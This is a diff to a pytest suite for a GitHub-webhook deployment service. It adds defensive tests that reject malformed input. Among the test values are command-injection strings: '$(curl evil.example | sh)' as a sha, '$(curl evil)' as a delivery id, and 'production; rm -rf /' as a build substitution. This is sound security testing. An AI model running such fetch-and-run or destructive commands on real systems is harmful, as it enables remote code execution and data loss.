@@ -7,6 +7,7 @@ import hashlib
 import hmac
 import json
 import logging
+import uuid
 from pathlib import Path
 
 import pytest
@@ -26,6 +27,11 @@ REPO = "jupyterhub/mybinder.org-deploy"
 SHA = "b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5"
 OLD_SHA = "a1" * 20
 PR_SHA = "d4" * 20
+
+
+def guid(name: str) -> str:
+    """A delivery id as GitHub makes them (a GUID), the same for the same name."""
+    return str(uuid.uuid5(uuid.NAMESPACE_URL, name))
 
 
 def sign(body: bytes, secret: str = SECRET) -> str:
@@ -68,7 +74,7 @@ class Stack:
         body = json.dumps(payload).encode() if body is None else body
         headers = {
             "X-GitHub-Event": event,
-            "X-GitHub-Delivery": delivery or f"delivery-{self.deliveries}",
+            "X-GitHub-Delivery": delivery or guid(f"delivery-{self.deliveries}"),
             "User-Agent": "GitHub-Hookshot/abc",
             "Content-Type": "application/json",
         }
@@ -219,10 +225,10 @@ def test_a_push_to_main_runs_the_trigger_and_creates_a_queued_deployment(stack):
 
 
 def test_a_redelivered_webhook_or_a_second_event_for_the_sha_starts_nothing_more(stack):
-    assert stack.send("push", push(), delivery="d-1").get_json()["action"] == "started"
-    again = stack.send("push", push(), delivery="d-1")
+    assert stack.send("push", push(), delivery=guid("d-1")).get_json()["action"] == "started"
+    again = stack.send("push", push(), delivery=guid("d-1"))
     assert again.status_code == 200 and again.get_json()["action"] == "exists"
-    assert stack.send("push", push(), delivery="d-2").get_json()["action"] == "exists"
+    assert stack.send("push", push(), delivery=guid("d-2")).get_json()["action"] == "exists"
     assert len(stack.cloudbuild.runs) == 1 and len(stack.github.deployments) == 1
 
 
@@ -444,6 +450,7 @@ def test_the_override_label_on_the_merged_pull_request_deploys_during_an_inciden
         "number": 9,
         "head": {"sha": PR_SHA},
         "merge_commit_sha": SHA,
+        "merged_at": "2026-03-01T12:00:00Z",
         "labels": [{"name": "deploy-during-incident"}],
     }
     staged(stack)
@@ -511,9 +518,9 @@ def test_a_failed_production_deploy_rolls_back_to_the_last_good_sha_when_configu
 # Failures downstream
 def test_cloud_build_down_answers_503_and_a_redelivery_recovers_without_duplicates(stack):
     stack.cloudbuild.faults = [Response(503, {"error": {"message": "backend unavailable"}})] * 2
-    response = stack.send("push", push(), delivery="d-9")
+    response = stack.send("push", push(), delivery=guid("d-9"))
     assert response.status_code == 503 and "redeliver" in response.get_json()["error"]
-    assert stack.send("push", push(), delivery="d-9").get_json()["action"] == "started"
+    assert stack.send("push", push(), delivery=guid("d-9")).get_json()["action"] == "started"
     assert len(stack.cloudbuild.builds) == 1 and len(stack.github.deployments) == 1
 
 
@@ -531,8 +538,8 @@ def test_secrets_reach_neither_logs_nor_responses(stack, caplog):
     stack.cloudbuild.faults = [Response(500, {"error": {"message": "oops"}})] * 2
     with caplog.at_level(logging.DEBUG):
         bodies = [
-            stack.send("push", push(), delivery="s-1").get_data(as_text=True),
-            stack.send("push", push(), delivery="s-1").get_data(as_text=True),
+            stack.send("push", push(), delivery=guid("s-1")).get_data(as_text=True),
+            stack.send("push", push(), delivery=guid("s-1")).get_data(as_text=True),
         ]
         build = stack.runs("staging")[0]
         stack.github.faults = [
@@ -599,3 +606,105 @@ def test_a_push_of_a_sha_tried_on_staging_by_label_still_goes_to_production(stac
     assert push_build["substitutions"]["_KIND"] == "push"
     stack.report(push_build, "SUCCESS")
     assert len(stack.runs("production")) == 1
+
+
+# Hostile input: nothing odd reaches Cloud Build, text cannot lift the hold
+def incident_open(stack: Stack) -> None:
+    stack.github.add_issue("jupyterhub/mybinder.org-incidents", "Launch failures", ["incident"])
+
+
+def staging_succeeds(stack: Stack) -> None:
+    assert stack.send("push", push()).status_code == 200
+    assert stack.report(stack.runs("staging")[-1], "SUCCESS").status_code == 200
+
+
+def test_the_override_label_in_a_commit_message_does_not_lift_the_hold(stack):
+    incident_open(stack)
+    stack.github.commit_messages[SHA] = "Sneak this in [deploy-during-incident]"
+    staging_succeeds(stack)
+    assert stack.runs("production") == []
+    assert stack.github.states("production") == [["queued"]]
+
+
+def test_the_override_label_on_a_pull_request_that_did_not_produce_the_push_is_ignored(stack):
+    """An open PR (from anyone) whose head is the pushed sha carries the label: still held."""
+    incident_open(stack)
+    stack.github.pulls[(REPO, 10)] = {
+        "number": 10,
+        "head": {"sha": SHA},
+        "merge_commit_sha": "e5" * 20,
+        "merged_at": None,
+        "labels": [{"name": "deploy-during-incident"}],
+    }
+    staging_succeeds(stack)
+    assert stack.runs("production") == []
+
+
+@pytest.mark.parametrize(
+    "delivery", ["d-1", "", "72d3162e-cc78-11e3-81ab-4c9367dc0958 extra", "$(curl evil)"]
+)
+def test_a_delivery_id_that_is_not_a_guid_is_refused_before_anything_happens(stack, delivery):
+    response = stack.send("push", push(), delivery=delivery or " ")
+    assert response.status_code == 400
+    assert "GUID" in response.get_json()["error"]
+    assert stack.cloudbuild.builds == [] and stack.servers[0].requests == []
+
+
+@pytest.mark.parametrize(
+    "sha",
+    [
+        "$(curl evil.example | sh)",
+        "B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5",
+        "b2c3d4e5",
+        "refs/heads/main",
+    ],
+)
+def test_a_sha_that_is_not_forty_hex_digits_is_refused_before_anything_happens(stack, sha):
+    response = stack.send("push", push(sha))
+    assert response.status_code == 400
+    assert response.get_json()["error"].startswith("sha ")
+    assert stack.cloudbuild.builds == []
+    assert [r for r in stack.servers[0].requests if r.method == "POST"] == []
+
+
+def test_repository_names_are_compared_as_github_does_without_case(stack):
+    payload = push()
+    payload["repository"]["full_name"] = "JupyterHub/MyBinder.org-Deploy"
+    assert stack.send("push", payload).get_json()["action"] == "started"
+    [staging] = stack.runs("staging")
+    assert staging["substitutions"]["_REPO"] == REPO  # the operator's spelling
+
+
+@pytest.mark.parametrize(
+    "substitutions",
+    [
+        {"_REPO": "someone/else"},
+        {"_REPO": "../jupyterhub/mybinder.org-deploy"},
+        {"_REPO": "jupyterhub/.."},
+        {"_DELIVERY": "not-a-guid"},
+        {"_ENVIRONMENT": "production; rm -rf /"},
+    ],
+)
+def test_deploy_status_ignores_builds_it_does_not_deploy(stack, substitutions):
+    assert stack.send("push", push()).status_code == 200
+    [staging] = stack.runs("staging")
+    staging["substitutions"].update(substitutions)
+    before = len(stack.servers[0].requests)
+    assert stack.report(staging, "SUCCESS").status_code == 200
+    assert len(stack.servers[0].requests) == before  # not a word to GitHub
+    assert stack.runs("production") == []
+
+
+@pytest.mark.parametrize(
+    "resource",
+    [
+        {"id": "b-1", "substitutions": ["_REPO", REPO]},
+        {"id": "b-1", "status": {"a": 1}, "createTime": "yesterday"},
+        {"id": ["b-1"], "sourceProvenance": "none"},
+        {"id": "b-1", "substitutions": {"_REPO": 7, "COMMIT_SHA": None}},
+    ],
+)
+def test_a_build_message_of_the_wrong_shape_is_acknowledged(stack, resource):
+    event = pubsub_event(json.dumps(resource).encode(), {}, "m-odd", topic="cloud-builds")
+    headers, data = to_binary(event)
+    assert stack.status.post("/", data=data, headers=headers).status_code == 200
